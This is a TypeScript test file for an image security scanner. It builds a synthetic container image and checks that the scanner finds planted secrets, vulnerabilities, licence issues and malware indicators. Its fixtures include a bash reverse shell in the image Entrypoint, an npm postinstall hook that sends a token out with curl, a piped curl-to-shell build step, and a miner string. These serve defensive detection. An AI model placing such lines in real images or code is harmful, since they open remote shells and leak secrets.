// SPDX-FileCopyrightText: Bartizan contributors
// SPDX-License-Identifier: Apache-2.0

import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { zstdDecompressSync } from 'node:zlib';
import { PackBuilder } from '@bartizan/scan';
import { programOf } from '@bartizan/testkit/programs';
import { fillTemplate } from '@bartizan/testkit/secrets';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { filesOf, type Layer, writeImage } from './image.ts';

const CLI = resolve(import.meta.dirname, '../../../apps/cli/src/main.ts');
const folder = mkdtempSync(join(tmpdir(), 'bartizan-image-hygiene-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Planted values: made here, so that no text of the repository looks like a secret. */
const DELETED = fillTemplate('glpat-{alnum:20}', 'deleted layer');
const KEPT = fillTemplate('glpat-{alnum:20}', 'kept layer');
const CONFIGURED = fillTemplate('glpat-{alnum:20}', 'configuration');
const BUILT = fillTemplate('glpat-{alnum:20}', 'history');
const HOOKED = fillTemplate('glpat-{alnum:20}', 'hook');
const CANARIES = [DELETED, KEPT, CONFIGURED, BUILT, HOOKED];

const md5 = (text: string): string => createHash('md5').update(text).digest('hex');
const status = (names: readonly string[]): string =>
  names
    .map(
      (one) =>
        `Package: ${one.split('=')[0]}\nStatus: install ok installed\nVersion: ${one.split('=')[1]}\nArchitecture: amd64\n\n`,
    )
    .join('');
const COPYRIGHT =
  'Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\nFiles: *\nLicense: GPL-3+\n';

const base = (openssl: string): Layer => ({
  'etc/os-release': 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
  'etc/passwd': 'root:x:0:0::/root:/bin/sh\n',
  'var/lib/dpkg/status': status([`openssl=${openssl}`, 'login=1']),
  'var/lib/dpkg/info/login.list': '/usr/bin/su\n',
  'var/lib/dpkg/info/openssl.md5sums': `${md5('openssl program')}  usr/bin/openssl\n`,
  'usr/bin/openssl': { content: 'openssl program', mode: 0o755 },
  'usr/bin/su': { content: 'su', mode: 0o4755 },
  'usr/share/doc/openssl/copyright': COPYRIGHT,
});
const APP: Layer = {
  'srv/gone.env': `TOKEN=${DELETED}\n`,
  'srv/kept.env': `TOKEN=${KEPT}\n`,
  'usr/bin/openssl': { content: 'patched program', mode: 0o755 },
  'usr/local/bin/helper': {
    content: programOf('stratum+tcp://POOL mining.subscribe randomx donate-level'),
    mode: 0o6755,
  },
  'opt/packed': { content: programOf('', 'noise'), mode: 0o755 },
  'tmp/drop': { content: programOf('nothing'), mode: 0o755 },
  'etc/ld.so.preload': '/usr/lib/extra.so\n',
  'app/node_modules/minimist/package.json': '{"name":"minimist","version":"1.2.5","license":"MIT"}',
  'app/node_modules/hook/package.json': `{"name":"hook","version":"1.0.0","scripts":{"postinstall":"curl -H x:${HOOKED} https://x/y"}}`,
};
const CONFIG = {
  config: {
    Env: ['PATH=/bin', `API_TOKEN=${CONFIGURED}`],
    Entrypoint: ['/bin/sh', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'],
  },
  history: [
    { created_by: '/bin/sh -c #(nop) ADD file:base in / ' },
    { created_by: `RUN /bin/sh -c curl -H "x: ${BUILT}" https://x/y | sh # buildkit` },
    { created_by: 'RUN /bin/sh -c rm /srv/gone.env # buildkit' },
  ],
};

interface Found {
  readonly severity: string;
  readonly check?: string;
  readonly evidence: readonly string[];
  readonly location?: { readonly kind: string; readonly path: string; readonly layer?: string };
}
interface Report {
  readonly findings: readonly { readonly vulnerability: { readonly id: string } }[];
  readonly base?: Record<string, unknown>;
  readonly secrets?: { readonly findings: readonly Found[]; readonly incomplete: readonly unknown[] };
  readonly hygiene?: {
    readonly findings: readonly Found[];
    readonly checks: readonly { readonly check: string; readonly outcome: string }[];
  };
  readonly licences?: { readonly findings: readonly { readonly package: { readonly name: string } }[] };
}

/** Everything that any run printed: canaries are looked for in it at the end. */
const printed: string[] = [];
const run = (args: readonly string[]): { status: number | null; stdout: string; stderr: string } => {
  const {
    status: code,
    stdout,
    stderr,
  } = spawnSync(
    process.execPath,
    [CLI, '--lang', 'en', 'scan', 'image', 'image', '--pack', 'pack', ...args],
    {
      cwd: folder,
      encoding: 'utf8',
      env: { ...process.env, BARTIZAN_INSTANCE: 'image-hygiene' },
      timeout: 60_000,
    },
  );
  printed.push(stdout, stderr);
  return { status: code, stdout, stderr };
};
const report = (args: readonly string[]): Report => {
  const { stdout, stderr } = run([...args, '-o', 'json']);
  if (stdout === '') throw new Error(stderr);
  return JSON.parse(stdout) as Report;
};

let diffIds: string[] = [];
beforeAll(() => {
  for (const name of ['image', 'base', 'newer']) mkdirSync(join(folder, name));
  diffIds = writeImage(join(folder, 'image'), [base('3.0.1'), APP, { 'srv/.wh.gone.env': '' }], CONFIG);
  writeImage(join(folder, 'base'), [base('3.0.1')]);
  writeImage(join(folder, 'newer'), [base('3.0.9')]);
  const builder = new PackBuilder();
  const row = (ecosystem: string, name: string, id: string, fixed: string): void =>
    builder.addRow(ecosystem, name, {
      id,
      kind: 'vulnerability',
      source: 'made up',
      ranges: [
        { type: ecosystem === 'npm' ? 'SEMVER' : 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed }] },
      ],
    });
  row('Debian:12', 'openssl', 'CVE-2026-1', '3.0.5');
  row('Debian:12', 'openssl', 'CVE-2026-2', '3.0.99');
  row('npm', 'minimist', 'CVE-2026-3', '1.2.6');
  const pack = builder.finish({ builtAtMs: 0, kind: 'full' });
  if (!pack.ok) throw new Error(pack.error.detail);
  writeFileSync(join(folder, 'pack'), pack.value);
});

describe('scan image', { timeout: 120_000 }, () => {
  it('finds secrets of every layer, of deleted files and of the configuration, and only once reads a layer', () => {
    const first = report(['--scanners', 'vuln,secret', '--cache', 'cache']);
    expect(
      first.secrets?.findings.map(({ location }) => `${location?.kind} ${location?.path}`).sort(),
    ).toEqual([
      'deleted-file /srv/gone.env',
      'file /app/node_modules/hook/package.json',
      'file /srv/kept.env',
      'image-config config.Env[API_TOKEN]',
      'image-config history[1].created_by',
    ]);
    expect(
      first.secrets?.findings.find(({ location }) => location?.kind === 'deleted-file')?.location?.layer,
    ).toBe(diffIds[1]);
    expect(first.secrets?.incomplete).toEqual([]);
    expect(first.findings.map(({ vulnerability }) => vulnerability.id).sort()).toEqual([
      'CVE-2026-1',
      'CVE-2026-2',
      'CVE-2026-3',
    ]);
    const again = report(['--scanners', 'vuln,secret', '--cache', 'cache']);
    const ids = (one: Report): unknown[] =>
      (one.secrets?.findings ?? []).map((finding) => ({ ...finding, firstSeenAtMs: 0, lastSeenAtMs: 0 }));
    expect(ids(again)).toEqual(ids(first));
    expect(statSync(join(folder, 'cache/fingerprint.key')).mode & 0o777).toBe(0o600);
  });

  it('says what is wrong with the image, with evidence and the layer that brought it', () => {
    const { hygiene } = report(['--scanners', 'vuln,secret,hygiene', '--cache', 'cache']);
    const found = new Map(
      (hygiene?.findings ?? []).map((one) => [`${one.check} ${one.location?.path ?? ''}`.trim(), one]),
    );
    expect([...found.keys()].sort()).toEqual([
      'image.changed-files',
      'image.config-secrets',
      'image.health-check',
      'image.install-hooks',
      'image.piped-downloads',
      'image.preloaded-libraries',
      'image.setuid-files',
      'image.setuid-unowned',
      'image.temporary-programs',
      'image.user',
      'malware.miner-program /usr/local/bin/helper',
      'malware.packed-program /opt/packed',
      'malware.reverse-shell config.Entrypoint',
    ]);
    expect(found.get('malware.miner-program /usr/local/bin/helper')?.location?.layer).toBe(diffIds[1]);
    const own = diffIds[1]?.slice(0, 19) ?? '';
    expect(found.get('image.changed-files')?.evidence).toContain(`/usr/bin/openssl of openssl in ${own}`);
    expect(found.get('image.setuid-unowned')?.evidence).toContain(`/usr/local/bin/helper 6755 0:0 in ${own}`);
    expect(found.get('image.setuid-unowned')?.evidence.join()).not.toContain('/usr/bin/su');
    expect(hygiene?.checks.filter(({ outcome }) => outcome === 'unknown')).toEqual([]);
  });

  it('ends with 3 for what is at least as bad, in every form, and is unknown where nobody looked', () => {
    expect(run(['--scanners', 'hygiene', '--fail-on', 'critical']).status).toBe(3);
    const { stderr, stdout } = run(['--scanners', 'hygiene', '-o', 'sarif']);
    expect(stdout).toContain('"ruleId": "malware.reverse-shell"');
    expect(stderr).toContain(
      'unknown: image.config-secrets: image.config-secrets: secrets were not searched',
    );
  });

  it('finds a file by a list of checksums, and refuses a list that is none', () => {
    const sum = createHash('sha256').update(programOf('nothing')).digest('hex');
    writeFileSync(join(folder, 'list'), `${sum}  dropper\n`);
    const { hygiene } = report(['--scanners', 'hygiene', '--malware-hashes', 'list']);
    expect(hygiene?.findings.find(({ check }) => check === 'malware.known-file')?.location?.path).toBe(
      '/tmp/drop',
    );
    writeFileSync(join(folder, 'bad'), 'not a sum\n');
    const refused = run(['--scanners', 'hygiene', '--malware-hashes', 'bad']);
    expect(refused.stderr).toContain('E_MALWARE_LIST');
    expect(refused.status).not.toBe(0);
  });

  it('splits findings by base and own layers, and says what a newer base removes', () => {
    const { base: split } = report(['--base', 'base', '--new-base', 'newer']);
    expect(split).toMatchObject({
      base: { how: 'layers', layers: 1 },
      findings: { base: 2, own: 1, unknown: 0 },
      newBase: { removes: ['CVE-2026-1 openssl'], adds: [], keeps: 2, isComplete: true },
    });
    const { stderr } = run(['--base', 'base', '--new-base', 'newer']);
    expect(stderr).toContain('2 findings of the base, 1 of the own layers');
    expect(stderr).toContain('1 findings go, 0 come, 2 stay');
    expect(run(['--new-base', 'newer']).stderr).toContain('effect of --new-base unknown');
  });

  it('refuses licences, and writes them into the bill of materials', () => {
    const { licences } = report(['--deny-license', 'strong-copyleft,unknown']);
    expect(licences?.findings.map((one) => one.package.name).sort()).toEqual(['hook', 'login', 'openssl']);
    expect(run(['-o', 'cyclonedx']).stdout).toContain('"id": "GPL-3.0-or-later"');
    expect(run(['--deny-license', 'copyright']).stderr).toContain('E_LICENSE_POLICY');
  });

  it('has shown and kept none of the planted values', () => {
    const kept = filesOf(join(folder, 'cache')).flatMap((bytes) => {
      const text = bytes.toString('latin1');
      return text.startsWith('BZ')
        ? [text, zstdDecompressSync(bytes.subarray(40)).toString('latin1')]
        : [text];
    });
    expect(kept.join()).toContain('/srv/gone.env');
    expect(printed.join()).toContain('/srv/gone.env');
    for (const canary of CANARIES)
      for (const form of [canary, canary.slice(10), Buffer.from(canary).toString('base64').slice(0, 24)]) {
        expect(printed.join(), 'printed').not.toContain(form);
        expect(kept.join(), 'kept').not.toContain(form);
      }
  });
});
